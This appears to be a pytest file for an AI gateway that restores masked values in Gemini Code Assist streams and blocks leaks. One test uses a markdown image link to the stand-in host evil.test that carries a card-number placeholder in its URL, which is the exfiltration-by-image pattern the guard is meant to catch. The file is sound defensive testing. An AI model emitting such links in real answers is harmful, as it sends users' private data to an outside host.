"""Particulars of the Code Assist wire: what it has besides the Gemini wire that it wraps."""

from collections.abc import Iterable
from typing import Any

import pytest

from gateway.exchange.answer_guard import CONTENT_FILTERED
from gateway.policy.document import GuardDocument
from gateway.wires.base import Body
from gateway.wires.code_assist import WIRE
from tests.gateway.wires import test_gemini_streams as gemini
from tests.gateway.wires.replays import CARD, MAIL, plan, replay
from tests.gateway.wires.test_gemini_streams import FRAMINGS, OF, PLACEHOLDERS

HI: Body = {"contents": [{"role": "user", "parts": [{"text": "Hi."}]}]}


def wrapped(bodies: Iterable[Body]) -> list[Body]:
    return [{"response": body, "traceId": "t1"} for body in bodies]


def restored(bodies: Iterable[Body], framing: str = "sse", **more: Any) -> list[Body]:
    request = {"model": "m", "request": gemini.REQUEST}
    rules = plan(PLACEHOLDERS, request, more.pop("guard", GuardDocument()), framing=framing, **more)
    return gemini.events(replay(WIRE, [gemini.framed(bodies, framing)], rules)[0], framing)


@pytest.mark.parametrize("framing", FRAMINGS)
@pytest.mark.parametrize("size", [1, 3, 40])
def test_a_stream_is_restored_as_that_of_gemini_is(framing: str, size: int) -> None:
    found = restored(wrapped(gemini.answer(size)), framing)
    assert {each["traceId"] for each in found} == {"t1"}
    notes = {"svc": {**gemini.NOTE, "guard": {"action": "pass"}}}
    last = [bool(each["response"]["candidates"][0].get("finishReason")) for each in found]
    gemini.check([each["response"] | (notes if is_last else {}) for each, is_last in zip(found, last, strict=True)])


def test_a_stream_that_ends_early_gives_the_rest() -> None:
    found = restored(wrapped([gemini.event({"text": f"Dear {OF[MAIL]}"})]))
    parts = [each["response"]["candidates"][0]["content"]["parts"][0]["text"] for each in found]
    assert "".join(parts) == f"Dear {MAIL}"


def test_strings_beside_the_answer_and_errors_are_restored() -> None:
    error = {"error": {"code": 429, "message": f"Wait, {OF[MAIL]}.", "status": "RESOURCE_EXHAUSTED"}}
    found = restored([*wrapped([gemini.event({"text": "a"})]), {"response": {}, "note": OF[MAIL]}, error])
    assert found[-2:] == [{"response": {}, "note": MAIL}, {"error": {**error["error"], "message": f"Wait, {MAIL}."}}]


@pytest.mark.parametrize("framing", FRAMINGS)
def test_an_answer_that_the_guard_withholds_ends_well_formed(framing: str) -> None:
    bodies = [gemini.event({"text": f"![x](https://evil.test/?q={OF[CARD]}) and more.\n\n"})]
    found = restored(wrapped(bodies), framing, guard={"placeholder_in_url": "replace"})
    (candidate,) = found[-1]["response"]["candidates"]
    assert (candidate["content"]["parts"], candidate["finishReason"]) == ([{"text": CONTENT_FILTERED}], "SAFETY")
    assert found[-1]["traceId"] == "t1"


@pytest.mark.parametrize(
    ("project", "is_text"),
    [
        ("made-up-project", False),
        ("acme.example:made-up-project", False),
        ("anna.keller@acme.test", True),
        ("DE89370400440532013000", True),
        ("4539578763621486", True),
        ("a" * 31, True),
        (7, False),
        (None, False),
    ],
)
def test_only_the_id_of_a_project_is_no_text(project: object, is_text: bool) -> None:
    read = WIRE.read({"model": "m", "project": project, "request": HI})
    assert (project in read.texts()) is is_text


def test_the_model_is_named_wherever_the_request_has_it() -> None:
    body: Body = {"model": "a", "request": {"model": "models/b", **HI}}
    assert WIRE.model(body, "") == "a"
    WIRE.set_model(body, "c")
    assert (body["model"], body["request"]["model"]) == ("c", "models/c")
